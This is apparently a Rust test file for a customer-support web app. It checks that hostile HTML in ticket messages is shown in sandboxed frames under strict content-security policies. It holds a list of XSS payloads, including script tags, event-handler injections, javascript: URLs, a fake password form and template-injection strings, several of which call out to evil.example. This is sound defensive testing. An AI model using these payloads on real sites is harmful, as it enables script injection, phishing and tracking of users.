//! Messages as pages show them.

use serde_json::json;

use crate::harness::visitor::Visitor;
use crate::harness::{Database, EXAMPLE, both_databases};

both_databases! { html_messages_have_frames_of_their_own, long_conversations_show_their_end }

/// Hostile messages. None may run a script or fetch anything: see `browsers`.
pub(super) const HOSTILE: &[&str] = &[
    "<script>document.title='pwned'; new Image().src='http://evil.example/1'</script><p>x</p>",
    "<img src=x onerror=\"document.title='pwned'\"><img src='http://evil.example/2'>",
    "<svg onload=\"document.title='pwned'\"><image href='http://evil.example/3'/></svg><p>x</p>",
    "<iframe src='javascript:parent.document.title=1'></iframe><iframe srcdoc='<script>top.location=1</script>'></iframe><p>x</p>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/4'><base href='http://evil.example/'><p>x</p>",
    "<form action='http://evil.example/5'><input name=password autofocus><button>Sign in</button></form><p>x</p>",
    "<style>@import 'http://evil.example/6'; body{background:url(http://evil.example/7)}</style><p>x</p>",
    "<link rel=stylesheet href='http://evil.example/8'><link rel=prefetch href='http://evil.example/9'><p>x</p>",
    "<video src='http://evil.example/10' autoplay></video><object data='http://evil.example/11'></object><embed src='http://evil.example/12'><p>x</p>",
    "<a href='javascript:document.title=1' autofocus onfocus='document.title=1'>click</a><p>x</p>",
    "</textarea></iframe><script>document.title='pwned'</script><!--><p>x</p>",
    "<p style=\"position:fixed;inset:0;background:url('http://evil.example/13')\">x</p>",
    "javascript:document.title='pwned' \"><script>document.title='pwned'</script> &lt;b&gt;",
    "\u{202e}moc.elpmaxe\u{202c} {{7*7}} ${7*7} <%= 7*7 %> </script> \u{0007}",
];

fn html_messages_have_frames_of_their_own(database: Database) {
    let server = database.serve_demo();
    let visitor = Visitor::of_demo(&server);
    let body = json!({"customerId": 123, "Channel": "Mail", "name": "<b>Subject</b>", "isOpenedTicket": true,
        "lastMessage": "<p>First</p><img src='http://evil.example/'>"});
    let ticket =
        format!("/tickets/{}", server.create_ticket(body.to_string()).ticket()["id"].as_str().unwrap());
    let path = format!("/api/v1{ticket}/comments");
    for text in HOSTILE {
        let body = json!({"text": text, "isFromShop": false, "subject": "<i>s</i>"}).to_string();
        assert_eq!(server.send("POST", &path, &[("x-api-key", &server.key)], body.as_bytes()).status, 201);
    }
    let page = visitor.get(&ticket);
    let policy = page.header("content-security-policy").unwrap();
    assert!(policy.starts_with("default-src 'none'; style-src 'self'; script-src 'self'"), "{policy}");
    assert!(policy.contains("frame-ancestors 'none'"), "{policy}");
    assert_eq!(page.header("referrer-policy"), Some("same-origin"));
    assert_eq!(page.header("cache-control"), Some("no-store"));
    for text in ["evil.example/1", "<b>Subject", "<i>s</i>", "onerror"] {
        assert!(!page.body.contains(text), "{text}: {}", page.body);
    }
    let frames: Vec<&str> = page
        .body
        .split("<iframe sandbox loading=\"lazy\" src=\"")
        .skip(1)
        .map(|after| after.split('"').next().unwrap())
        .collect();
    // The last one is no HTML to a mail reader: a text that mentions tags.
    assert!(frames.len() >= HOSTILE.len() - 1, "{frames:?}");
    for frame in &frames {
        let response = visitor.get(frame);
        assert_eq!(response.status, 200, "{frame}");
        assert_eq!(
            response.header("content-security-policy"),
            Some(
                "sandbox; default-src 'none'; img-src data:; style-src 'unsafe-inline'; frame-ancestors 'self'"
            )
        );
        assert_eq!(response.header("referrer-policy"), Some("no-referrer"));
    }
    // Images are one click away.
    let page = visitor.page(&format!("{ticket}?images=first"));
    assert!(page.contains(&format!("src=\"{ticket}/messages/first?images=1\"")), "{page}");
    let with_images = visitor.get(&format!("{ticket}/messages/first?images=1"));
    let policy = with_images.header("content-security-policy").unwrap();
    assert!(policy.starts_with("sandbox; default-src 'none'; img-src data: http: https:;"), "{policy}");
    for missing in ["0.1", "x", "1.x", "-1.1", "1.9223372036854775807", "9999999999999999.1"] {
        assert_eq!(visitor.get(&format!("{ticket}/messages/{missing}")).status, 404, "{missing}");
    }
}

fn long_conversations_show_their_end(database: Database) {
    let server = database.serve_demo();
    let visitor = Visitor::of_demo(&server);
    let ticket = format!("/tickets/{}", server.create_ticket(EXAMPLE).ticket()["id"].as_str().unwrap());
    let path = format!("/api/v1{ticket}/comments");
    for number in 1..=103 {
        let body = json!({"text": format!("message {number}."), "isFromShop": number % 2 == 0}).to_string();
        assert_eq!(server.send("POST", &path, &[("x-api-key", &server.key)], body.as_bytes()).status, 201);
    }
    let page = visitor.page(&ticket);
    assert!(
        page.contains("message 103.") && page.contains("message 4.") && !page.contains("message 3."),
        "{page}"
    );
    assert!(page.contains("Earlier messages are not shown"));
    let page = visitor.page(&format!("{ticket}?from=start"));
    assert!(page.contains("message 1.") && page.contains("Hello, I need a refund."), "{page}");
}
